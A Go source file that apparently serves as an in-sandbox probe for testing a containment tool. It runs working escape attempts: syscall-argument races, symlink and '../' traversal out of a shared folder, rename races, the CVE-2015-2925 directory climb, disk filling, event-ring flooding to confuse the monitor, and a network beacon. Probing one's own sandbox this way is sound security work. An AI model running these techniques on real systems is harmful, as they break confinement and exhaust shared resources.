package main

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/consentry/consentry/attack"
)

const (
	raceTime  = 1500 * time.Millisecond
	raceTries = 20000
)

// flip changes an argument in memory between two values of one length, until the
// result is called.
func flip(buffer []byte, a, b string) (stop func()) {
	var over atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		for !over.Load() {
			copy(buffer, a)
			copy(buffer, b)
		}
	}()
	return func() { over.Store(true); <-done }
}

// argumentRaces: who looks at an argument in memory before the kernel does could be
// shown another one (row 25). Nobody here decides by what it finds there. A race
// of which not both ends were seen is reported as none.
func (p *probe) argumentRaces() {
	p.tell("path", racePath())
	p.tell("address", raceAddress(p.target("abstract")))
}

// racePath opens for writing what may be written, and what may not.
func racePath() string {
	const forbidden = "/shared/file"
	mine := "/tmp" + strings.Repeat("/", len(forbidden)-len("/tmpm")) + "m"
	must(os.WriteFile(mine, nil, 0o600))
	var own unix.Stat_t
	must(unix.Stat(mine, &own))
	path := append([]byte(mine), 0)
	defer flip(path, mine, forbidden)()
	opened, refused := 0, 0
	for end := time.Now().Add(raceTime); time.Now().Before(end) && opened+refused < raceTries; {
		fd, _, errno := unix.Syscall(unix.SYS_OPENAT, atCWD, uintptr(unsafe.Pointer(&path[0])), unix.O_WRONLY|unix.O_CLOEXEC)
		if errno != 0 {
			refused++
			continue
		}
		var st unix.Stat_t
		must(unix.Fstat(int(fd), &st))
		must(unix.Close(int(fd)))
		if st.Ino != own.Ino || st.Dev != own.Dev {
			return attack.Done
		}
		opened++
	}
	return bothSeen(opened, refused)
}

// raceAddress connects to an abstract socket of ours, and to one of the host.
func raceAddress(host string) string {
	mine := strings.Repeat("m", len(host))
	l, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	must(err)
	must(unix.Bind(l, &unix.SockaddrUnix{Name: "@" + mine}))
	must(unix.Listen(l, 1))
	address := append([]byte{unix.AF_UNIX, 0, 0}, mine...)
	defer flip(address[3:], mine, host)()
	connected, refused := 0, 0
	for end := time.Now().Add(raceTime); time.Now().Before(end) && connected+refused < raceTries; {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
		must(err)
		_, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&address[0])), uintptr(len(address)))
		switch errno {
		case 0: // whose it was is seen at both ends
			end, _, err := unix.Accept4(l, unix.SOCK_CLOEXEC)
			must(err)
			must(unix.Close(end))
			connected++
		case unix.EAGAIN:
		default:
			refused++
		}
		must(unix.Close(fd))
	}
	return bothSeen(connected, refused)
}

func bothSeen(a, b int) string {
	if a == 0 || b == 0 {
		return "no race"
	}
	return attack.None
}

// shareEscape tries to come out of a shared folder, and to write into one that is
// to be read (row 44).
func (p *probe) shareEscape() {
	secret := p.target("file")
	link := func(name, to string) string {
		must(os.Symlink(to, name))
		return name
	}
	up := strings.Repeat("../", 20)
	p.try("link to the host", readable(link("/own/link", secret)))
	p.try("link upwards", readable(link("/own/up", up+secret[1:])))
	dir, err := unix.Open("/shared", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	must(err)
	_, err = unix.Openat(dir, up+secret[1:], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	p.try("dots by descriptor", err)
	file, err := unix.Open("/shared/file", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	must(err)
	self := filepath.Join("/proc/self/fd", strconv.Itoa(file))
	p.open("write", "/shared/file", unix.O_WRONLY)
	p.open("write by descriptor", self, unix.O_RDWR)
	p.open("write by link", link("/own/shared", "/shared/file"), unix.O_WRONLY)
	p.try("truncate", unix.Truncate("/shared/file", 0))
	p.try("chmod", unix.Chmod("/shared/file", 0o777))
	p.try("hard link", unix.Link("/shared/file", "/own/hard"))
	p.try("hard link by descriptor", unix.Linkat(unix.AT_FDCWD, self, unix.AT_FDCWD, "/own/hard", unix.AT_SYMLINK_FOLLOW))
	p.try("rename out", unix.Rename("/shared/file", "/own/moved"))
	must(os.WriteFile("/own/swap", nil, 0o600))
	p.try("exchange", unix.Renameat2(unix.AT_FDCWD, "/own/swap", unix.AT_FDCWD, "/shared/file", unix.RENAME_EXCHANGE))
	p.tell("rename race", raceRename(up+secret[1:]))
	p.tell("moved out of the folder", climb(up+secret[1:]))
}

// raceRename walks upwards from a directory that is moved meanwhile.
func raceRename(outside string) string {
	must(os.MkdirAll("/own/a/b/c", 0o700))
	must(os.Mkdir("/own/d", 0o700))
	var over atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		for !over.Load() {
			must(unix.Rename("/own/a/b", "/own/d/b"))
			must(unix.Rename("/own/d/b", "/own/a/b"))
		}
	}()
	defer func() { over.Store(true); <-done }()
	moved, there := 0, 0
	for end := time.Now().Add(raceTime); time.Now().Before(end) && moved+there < raceTries; {
		if readable("/own/a/b/c/"+outside) == nil {
			return attack.Done
		}
		if unix.Access("/own/a/b/c", unix.F_OK) == nil {
			there++
		} else {
			moved++
		}
	}
	return bothSeen(moved, there)
}

// climb goes into a directory that the host then moves out of the folder, and
// walks upwards from there (CVE-2015-2925).
func climb(outside string) string {
	must(os.MkdirAll("/own/climb/deep", 0o755))
	must(os.Chdir("/own/climb/deep"))
	must(os.WriteFile("/own/climb/ready", nil, 0o600))
	for end := time.Now().Add(10 * time.Second); unix.Access("/own/climb", unix.F_OK) == nil; time.Sleep(time.Millisecond) {
		if time.Now().After(end) {
			return "was not moved"
		}
	}
	return nameOf(readable(outside))
}

// diskFull writes until there is no more room (row 63).
func (p *probe) diskFull() {
	for _, dir := range []string{"/", "/tmp", "/dev/shm"} {
		p.try("fill "+dir, fill(filepath.Join(dir, "fill")))
	}
}

func fill(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer os.Remove(path)
	defer f.Close()
	block := make([]byte, 1<<20)
	for range 1 << 14 { // 16 GiB
		if _, err := f.Write(block); err != nil {
			return err
		}
	}
	return nil
}

// eventFlood makes more events than the kernel's ring has room for, while what is
// judged stays the same (row 64).
func (p *probe) eventFlood() {
	wrong := 0
	for range p.count() {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		must(err)
		must(unix.Close(fd))
		if _, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP); err != unix.EPERM { //nolint:errorlint // an errno
			wrong++
		}
	}
	p.tell("wrong verdicts", noneOf(wrong))
	p.try("open for writing", writable("/shared/file"))
}

func writable(path string) error {
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err == nil {
		f.Close()
	}
	return err
}

func noneOf(n int) string {
	if n == 0 {
		return attack.None
	}
	return "some"
}

// beacon says that it lives, on a card that nobody answers and in a folder, until
// it is ended (row 65).
func (p *probe) beacon() {
	for {
		must(os.WriteFile("/own/beacon", []byte(time.Now().String()), 0o600))
		//nolint:errcheck // that it is tried counts
		says(at("9.9.9.9", 53), "x")
		time.Sleep(20 * time.Millisecond)
	}
}
